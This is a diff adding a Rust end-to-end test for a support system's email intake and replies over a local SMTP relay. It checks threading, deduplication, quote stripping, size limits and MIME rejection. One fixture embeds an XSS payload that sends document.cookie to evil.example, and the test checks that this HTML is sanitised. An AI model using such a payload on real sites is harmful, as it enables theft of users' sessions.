@@ -1,0 +1,385 @@
+//! The email channel over a real SMTP relay: `aiosmtpd` (PyPI, installed by
+//! `scripts/deps.sh email`) started per test on a free port with its Maildir handler, and the test
+//! speaking SMTP to intake's listener as a customer's mail server would.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::Duration;
+
+use komek_e2e::{Mesh, MeshOptions, WAIT, free_port, poll_json};
+use komek_testkit::eventually;
+use mail_parser::MessageParser;
+use reqwest::StatusCode;
+use serde_json::{Value, json};
+use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
+use tokio::net::TcpStream;
+
+const CUSTOMER: &str = "aliya.serikova@mail.kz";
+const MAX_BYTES: usize = 65_536;
+
+/// aiosmtpd writing every mail it receives into a Maildir; killed on drop.
+struct Relay {
+    maildir: PathBuf,
+    child: Child,
+}
+
+impl Relay {
+    async fn start(dir: &Path, port: u16) -> Self {
+        std::fs::create_dir_all(dir).unwrap();
+        let maildir = dir.join("maildir");
+        let log = std::fs::File::create(dir.join("aiosmtpd.out")).unwrap();
+        let child = Command::new("python3")
+            .args(["-m", "aiosmtpd", "-n", "-l"])
+            .arg(format!("127.0.0.1:{port}"))
+            .args(["-c", "aiosmtpd.handlers.Mailbox"])
+            .arg(&maildir)
+            .stdin(Stdio::null())
+            .stdout(Stdio::from(log.try_clone().unwrap()))
+            .stderr(Stdio::from(log))
+            .spawn()
+            .expect("python3 -m aiosmtpd: run scripts/deps.sh email (make test does)");
+        eventually(Duration::from_secs(20), "aiosmtpd listens", || async move {
+            TcpStream::connect(("127.0.0.1", port))
+                .await
+                .ok()
+                .map(|_| ())
+        })
+        .await;
+        Relay { maildir, child }
+    }
+
+    /// Every mail the relay received so far, raw.
+    fn received(&self) -> Vec<Vec<u8>> {
+        let Ok(entries) = std::fs::read_dir(self.maildir.join("new")) else {
+            return Vec::new();
+        };
+        let mut files: Vec<_> = entries.filter_map(Result::ok).map(|e| e.path()).collect();
+        files.sort();
+        files
+            .into_iter()
+            .filter_map(|p| std::fs::read(p).ok())
+            .collect()
+    }
+
+    /// The first received mail whose subject contains `needle`, waited for.
+    async fn wait_for(&self, what: &str, needle: &str) -> Vec<u8> {
+        eventually(WAIT, what, || {
+            let got = self.received().into_iter().find(|raw| {
+                MessageParser::default()
+                    .parse(raw)
+                    .and_then(|m| m.subject().map(|s| s.contains(needle)))
+                    .unwrap_or(false)
+            });
+            async move { got }
+        })
+        .await
+    }
+}
+
+impl Drop for Relay {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// A customer's mail server: one SMTP conversation handing `raw` to intake; the final reply.
+async fn smtp_send(port: u16, from: &str, raw: &str) -> String {
+    let s = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
+    let (r, mut w) = s.into_split();
+    let mut r = BufReader::new(r);
+    async fn answer(r: &mut BufReader<tokio::net::tcp::OwnedReadHalf>) -> String {
+        let mut all = String::new();
+        loop {
+            let mut line = String::new();
+            r.read_line(&mut line).await.unwrap();
+            all.push_str(&line);
+            // A multi-line reply goes on while the fourth character is '-'.
+            if line.len() < 4 || line.as_bytes()[3] != b'-' {
+                return all.trim_end().to_owned();
+            }
+        }
+    }
+    let greeting = answer(&mut r).await;
+    assert!(greeting.starts_with("220 "), "{greeting}");
+    for (cmd, want) in [
+        ("EHLO mail.kz".to_owned(), "250"),
+        (format!("MAIL FROM:<{from}>"), "250"),
+        ("RCPT TO:<support@komek.kz>".to_owned(), "250"),
+        ("DATA".to_owned(), "354"),
+    ] {
+        w.write_all(format!("{cmd}\r\n").as_bytes()).await.unwrap();
+        let got = answer(&mut r).await;
+        assert!(got.starts_with(want), "{cmd}: {got}");
+        if cmd == "EHLO mail.kz" {
+            assert!(got.contains(&format!("SIZE {MAX_BYTES}")), "{got}");
+        }
+    }
+    // Dot-stuffing, CRLF line ends.
+    let mut body = String::new();
+    for line in raw.replace("\r\n", "\n").split('\n') {
+        if line.starts_with('.') {
+            body.push('.');
+        }
+        body.push_str(line);
+        body.push_str("\r\n");
+    }
+    body.push_str(".\r\n");
+    w.write_all(body.as_bytes()).await.unwrap();
+    let last = answer(&mut r).await;
+    w.write_all(b"QUIT\r\n").await.unwrap();
+    let bye = answer(&mut r).await;
+    assert!(bye.starts_with("221"), "{bye}");
+    last
+}
+
+fn b64(s: &str) -> String {
+    const T: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let b = s.as_bytes();
+    let mut out = String::new();
+    for c in b.chunks(3) {
+        let n = (u32::from(c[0]) << 16)
+            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
+            | u32::from(*c.get(2).unwrap_or(&0));
+        for i in 0..4 {
+            if i <= c.len() {
+                out.push(T[(n >> (18 - 6 * i) & 63) as usize] as char);
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
+/// RFC 2047 encoded word.
+fn word(s: &str) -> String {
+    format!("=?UTF-8?B?{}?=", b64(s))
+}
+
+async fn email_requests(store: &komek_store::Store) -> Vec<String> {
+    let mut c = store.conn();
+    redis::AsyncCommands::zrange(&mut c, store.keys().ix_channel("email"), 0, -1)
+        .await
+        .unwrap_or_default()
+}
+
+/// A Russian mail becomes an `email` request; its Russian acknowledgment reaches the relay with
+/// the number in the subject and the thread's Message-ID; an agent's reply answers that thread;
+/// the customer's reply (In-Reply-To, a quoted block) lands on the same request without the quote;
+/// an HTML-only mail with a script becomes safe text; an oversized mail gets 552 and broken MIME
+/// 554, with nothing written.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn email_in_and_out_through_a_real_relay() {
+    let relay_port = free_port();
+    let smtp_port = free_port();
+    let mesh = Mesh::start(MeshOptions {
+        tag: "email",
+        env: vec![
+            ("KOMEK__EMAIL__RELAY_HOST".into(), "127.0.0.1".into()),
+            ("KOMEK__EMAIL__RELAY_PORT".into(), relay_port.to_string()),
+            ("KOMEK__EMAIL__SMTP_PORT".into(), smtp_port.to_string()),
+            ("KOMEK__EMAIL__MAX_BYTES".into(), MAX_BYTES.to_string()),
+        ],
+        ..Default::default()
+    })
+    .await;
+    let relay = Relay::start(&mesh.logs.join("relay"), relay_port).await;
+    let store = komek_store::Store::connect(&mesh.settings.redis)
+        .await
+        .unwrap();
+    let http = reqwest::Client::new();
+
+    // The customer writes in Russian.
+    let text = "Здравствуйте! Второй день не работает мобильный интернет, помогите, пожалуйста.";
+    let raw = format!(
+        "From: {} <{CUSTOMER}>\r\nTo: Komek <support@komek.kz>\r\nSubject: {}\r\n\
+         Message-ID: <first.1@mail.kz>\r\nMIME-Version: 1.0\r\n\
+         Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{text}\r\n",
+        word("Алия Серикова"),
+        word("Не работает интернет"),
+    );
+    let answer = smtp_send(smtp_port, CUSTOMER, &raw).await;
+    assert!(answer.starts_with("250 "), "{answer}");
+    let ids = email_requests(&store).await;
+    assert_eq!(ids.len(), 1, "stored before the 250");
+    let id = ids[0].clone();
+    let request = store.request(id.parse().unwrap()).await.unwrap().unwrap();
+    assert_eq!(request.customer.email.as_ref().unwrap().as_str(), CUSTOMER);
+    assert_eq!(request.customer.name.as_deref(), Some("Алия Серикова"));
+    assert_eq!(request.subject.as_deref(), Some("Не работает интернет"));
+    assert_eq!(request.language.as_str(), "ru");
+    assert_eq!(request.text, text);
+    let number = request.number.0.clone();
+    assert!(answer.contains(&number), "{answer}");
+
+    // The same mail again (the sender lost our answer): no second request.
+    let again = smtp_send(smtp_port, CUSTOMER, &raw).await;
+    assert!(again.starts_with("250 "), "{again}");
+    assert_eq!(email_requests(&store).await.len(), 1);
+
+    // The acknowledgment reaches the relay: Russian, numbered, opening the thread.
+    let ack_raw = relay
+        .wait_for("the acknowledgment reaches the relay", &number)
+        .await;
+    let ack = MessageParser::default().parse(&ack_raw).unwrap();
+    assert_eq!(
+        ack.subject().unwrap(),
+        format!("[{number}] Ваше обращение принято")
+    );
+    assert_eq!(ack.to().unwrap().first().unwrap().address(), Some(CUSTOMER));
+    let thread = ack.message_id().unwrap().to_owned();
+    assert_eq!(thread, format!("{id}@komek"));
+    let body = ack.body_text(0).unwrap();
+    assert!(body.contains(&request.messages[0].text), "{body}");
+    assert!(body.contains("ответьте на это письмо"), "{body}");
+
+    // Its history says so.
+    let agent = mesh.login(&http, "aigerim", "komek-agent").await;
+    let view_url = mesh.url("workspace", &format!("/api/v1/requests/{id}"));
+    let line = poll_json(
+        &http,
+        &view_url,
+        Some(&agent),
+        "history has notified",
+        |v| {
+            v["history"]
+                .as_array()?
+                .iter()
+                .find(|h| h["action"] == "notified")
+                .cloned()
+        },
+    )
+    .await;
+    let detail = line["detail"].as_str().unwrap();
+    assert!(detail.contains("email to ****l.kz"), "{detail}");
+
+    // An agent's reply goes out in the same thread.
+    let taken = mesh.take_next(&http, &agent).await;
+    assert_eq!(taken["id"], id.as_str());
+    let reply = "Перезагрузите, пожалуйста, телефон и напишите, помогло ли.";
+    let r = http
+        .post(mesh.url("workspace", &format!("/api/v1/requests/{id}/replies")))
+        .bearer_auth(&agent)
+        .json(&json!({ "text": reply }))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::OK);
+    let reply_raw = relay
+        .wait_for("the reply reaches the relay", "Ответ по вашему обращению")
+        .await;
+    let sent = MessageParser::default().parse(&reply_raw).unwrap();
+    assert_eq!(sent.in_reply_to().as_text(), Some(thread.as_str()));
+    assert_eq!(sent.references().as_text(), Some(thread.as_str()));
+    assert_ne!(sent.message_id(), Some(thread.as_str()));
+    assert!(sent.body_text(0).unwrap().contains(reply));
+
+    // The customer answers that mail, quoting it.
+    let answer_text = "Перезагрузил, не помогло.";
+    let raw = format!(
+        "From: {CUSTOMER}\r\nTo: support@komek.kz\r\nSubject: Re: {}\r\n\
+         Message-ID: <second.2@mail.kz>\r\nIn-Reply-To: <{}>\r\nReferences: <{thread}> <{}>\r\n\
+         Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\
+         {answer_text}\r\n\r\nВ пн, 1 дек. 2026 г. в 10:00, Komek <support@komek.kz> написал(а):\r\n\
+         > {reply}\r\n.a line starting with a dot\r\n",
+        word(sent.subject().unwrap()),
+        sent.message_id().unwrap(),
+        sent.message_id().unwrap(),
+    );
+    let added = smtp_send(smtp_port, CUSTOMER, &raw).await;
+    assert!(
+        added.starts_with("250 ") && added.contains(&number),
+        "{added}"
+    );
+    let view = poll_json(
+        &http,
+        &view_url,
+        Some(&agent),
+        "the agent sees the customer's answer",
+        |v: &Value| {
+            v["request"]["messages"]
+                .as_array()?
+                .iter()
+                .find(|m| m["kind"] == "customer")
+                .map(|_| v.clone())
+        },
+    )
+    .await;
+    let customer: Vec<&Value> = view["request"]["messages"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|m| m["kind"] == "customer")
+        .collect();
+    assert_eq!(customer.len(), 1);
+    assert_eq!(
+        customer[0]["text"], answer_text,
+        "without the quoted history"
+    );
+    assert_eq!(email_requests(&store).await.len(), 1, "no new request");
+
+    // An HTML-only mail with a script: safe text.
+    let raw = "From: Bob <bob@mail.kz>\r\nTo: support@komek.kz\r\nSubject: Roaming\r\n\
+         Content-Type: text/html; charset=utf-8\r\n\r\n\
+         <html><head><style>p { color: red }</style></head><body>\
+         <p>Roaming does not work in <b>Tashkent</b> &amp; Bishkek.</p>\
+         <script>document.location='http://evil.example/?c='+document.cookie</script>\
+         <p onclick=\"alert(1)\">Please help.</p></body></html>\r\n"
+        .to_owned();
+    let answer = smtp_send(smtp_port, "bob@mail.kz", &raw).await;
+    assert!(answer.starts_with("250 "), "{answer}");
+    let ids = email_requests(&store).await;
+    assert_eq!(ids.len(), 2);
+    let html_id = ids.iter().find(|i| **i != id).unwrap();
+    let html = store
+        .request(html_id.parse().unwrap())
+        .await
+        .unwrap()
+        .unwrap();
+    assert_eq!(
+        html.text,
+        "Roaming does not work in Tashkent & Bishkek.\n\nPlease help."
+    );
+    assert_eq!(html.language.as_str(), "en");
+
+    // Oversized: 552, nothing written. Broken MIME and attachments: 554 with the reason.
+    let big = format!(
+        "From: {CUSTOMER}\r\nSubject: big\r\n\r\n{}\r\n",
+        "x".repeat(MAX_BYTES + 1)
+    );
+    let answer = smtp_send(smtp_port, CUSTOMER, &big).await;
+    assert!(answer.starts_with("552 "), "{answer}");
+    let broken =
+        "From: a@mail.kz\r\nSubject: x\r\nContent-Type: multipart/mixed\r\n\r\n--b\r\n\r\nhi\r\n";
+    let answer = smtp_send(smtp_port, "a@mail.kz", broken).await;
+    assert!(
+        answer.starts_with("554 ") && answer.contains("boundary"),
+        "{answer}"
+    );
+    let attached = "From: a@mail.kz\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n\
+        --b\r\nContent-Type: text/plain\r\n\r\nsee the file\r\n--b\r\nContent-Type: application/pdf\r\n\
+        Content-Disposition: attachment; filename=a.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0=\r\n--b--\r\n";
+    let answer = smtp_send(smtp_port, "a@mail.kz", attached).await;
+    assert!(
+        answer.starts_with("554 ") && answer.contains("attachments"),
+        "{answer}"
+    );
+    assert_eq!(
+        email_requests(&store).await.len(),
+        2,
+        "nothing half-written"
+    );
+    let log = mesh.log("intake");
+    assert!(log.contains("inbound mail refused"), "refusals are logged");
+
+    drop(relay);
+    komek_testkit::cleanup(&mesh.settings).await;
+}
+
+#[test]
+fn base64_of_utf8() {
+    assert_eq!(b64("Алия"), "0JDQu9C40Y8=");
+    assert_eq!(b64("ab"), "YWI=");
+}
